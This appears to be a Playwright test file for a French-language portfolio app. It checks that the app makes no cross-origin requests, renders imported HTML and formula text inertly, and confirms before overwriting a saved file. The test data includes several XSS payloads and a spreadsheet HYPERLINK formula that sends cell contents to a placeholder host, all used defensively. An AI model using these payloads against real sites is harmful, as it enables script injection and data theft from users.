/**
 * Nothing let in, seen from the page: while the app is used (demo, every
 * screen of the navigation, a project sheet, an import) it requests nothing
 * outside its own origin; and text that looks like HTML or a spreadsheet
 * formula in an imported document is shown as text, never run; saving over an
 * existing document asks first.
 */
import { readFileSync, statSync } from 'node:fs';
import { join } from 'node:path';
import type { Page, Request } from '@playwright/test';
import { openDemo } from './checks';
import { expect, test } from './fixtures';

const HOSTILE = [
  '<img src=x onerror=alert(1)>',
  '=HYPERLINK("http://example.invalid/?"&A1,"Cliquez")',
  '<script>alert(2)</script>',
  '"><svg onload=alert(3)>',
];

/** Every request the page makes, and every dialog it opens. */
function record(page: Page): { requests: string[]; dialogs: string[] } {
  const seen = { requests: [] as string[], dialogs: [] as string[] };
  page.on('request', (request: Request) => seen.requests.push(request.url()));
  page.on('websocket', (ws) => seen.requests.push(ws.url()));
  page.on('dialog', async (dialog) => {
    seen.dialogs.push(`${dialog.type()}: ${dialog.message()}`);
    await dialog.dismiss();
  });
  return seen;
}

function foreign(requests: string[], origin: string): string[] {
  return requests.filter((url) => {
    if (url.startsWith('data:') || url.startsWith('blob:')) return false;
    return new URL(url).origin !== origin;
  });
}

const nav = (page: Page) => page.getByRole('navigation', { name: 'Écrans' });

test('requests nothing but its own origin while every screen is used', async ({ page, appUrl }) => {
  const seen = record(page);
  await openDemo(page, appUrl);
  await page.locator('table.project-table tbody tr').first().getByRole('link').click();
  await expect(page.getByRole('heading', { level: 1 })).toBeVisible();

  const links = nav(page).getByRole('link');
  const count = await links.count();
  expect(count).toBeGreaterThanOrEqual(4);
  for (let i = 0; i < count; i++) {
    const link = links.nth(i);
    const name = (await link.textContent())?.trim() ?? '';
    await link.click();
    await expect(page.getByRole('heading', { level: 1 }), name).toBeVisible();
    await page.waitForLoadState('networkidle');
  }
  const origin = new URL(appUrl).origin;
  expect(seen.requests.length).toBeGreaterThan(3);
  expect(foreign(seen.requests, origin)).toEqual([]);
  expect(seen.dialogs).toEqual([]);
});

test('shows HTML and formulas in imported names as text, never runs them', async ({
  page,
  appUrl,
}) => {
  const seen = record(page);
  await openDemo(page, appUrl);

  const doc = JSON.parse(
    readFileSync(new URL('../fixtures/petit.json', import.meta.url), 'utf8'),
  ) as { organisation: { name: string }; projects: { name: string }[] };
  HOSTILE.forEach((name, i) => (doc.projects[i]!.name = name));
  doc.organisation.name = '<b>Ville</b> <img src=y onerror=alert(4)>';
  await page.getByTestId('import-input').setInputFiles({
    name: 'piege.json',
    mimeType: 'application/json',
    buffer: Buffer.from(JSON.stringify(doc)),
  });
  const table = page.getByRole('table', { name: /Projets du portefeuille/ });
  for (const name of HOSTILE) {
    await expect(table.getByText(name, { exact: true }).first()).toBeVisible();
  }
  // Nothing from the names became an element.
  await expect(
    page.locator('img[src="x"], img[src="y"], svg[onload], b:text("Ville")'),
  ).toHaveCount(0);
  expect(
    await page.locator('script').evaluateAll((s) => s.map((e) => e.textContent ?? '')),
  ).not.toContain('alert(2)');

  // The project sheet of the first one shows it as text too.
  await table.getByRole('link', { name: HOSTILE[0] }).click();
  await expect(page.getByRole('heading', { level: 1 })).toContainText(HOSTILE[0]!);
  await expect(page.locator('img[src="x"]')).toHaveCount(0);

  // Every screen with these names loaded: still no dialog, no image, no request elsewhere.
  const links = nav(page).getByRole('link');
  const count = await links.count();
  for (let i = 0; i < count; i++) {
    await links.nth(i).click();
    await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
    await expect(page.locator('img[src="x"], img[src="y"], svg[onload]')).toHaveCount(0);
  }
  await page.waitForTimeout(300);
  expect(seen.dialogs).toEqual([]);
  expect(foreign(seen.requests, new URL(appUrl).origin)).toEqual([]);
});

test('saving over an existing document asks first, and only « Remplacer » replaces it', async ({
  page,
  appUrl,
  appContext,
}) => {
  const seen = record(page);
  await openDemo(page, appUrl);
  const saveAs = async (name: string) => {
    await page.getByRole('button', { name: /Fichier/ }).click();
    await page.getByRole('button', { name: 'Enregistrer sous…' }).click();
    const dialog = page.getByRole('dialog', { name: 'Enregistrer sous' });
    await dialog.getByLabel('Nom du fichier').fill(name);
    await dialog.getByRole('button', { name: 'Enregistrer' }).click();
  };
  await saveAs('Copie du comité');
  await expect(page.getByText('Enregistré sous Copie du comité.arbitra')).toBeVisible();
  const file = join(appContext.documentsDir, 'Copie du comité.arbitra');
  // Work goes on in another copy; the first one is now another document.
  await saveAs('Brouillon');
  await expect(page.getByText('Enregistré sous Brouillon.arbitra')).toBeVisible();
  const before = statSync(file).mtimeMs;

  await saveAs('Copie du comité');
  const ask = page.getByRole('dialog', { name: 'Remplacer le fichier ?' });
  await expect(ask).toContainText('« Copie du comité.arbitra » existe déjà');
  await ask.getByRole('button', { name: 'Annuler' }).click();
  await expect(ask).toBeHidden();
  expect(statSync(file).mtimeMs).toBe(before);

  await saveAs('Copie du comité');
  await ask.getByRole('button', { name: 'Remplacer' }).click();
  await expect(ask).toBeHidden();
  await expect.poll(() => statSync(file).mtimeMs).toBeGreaterThan(before);
  expect(seen.dialogs).toEqual([]);
});
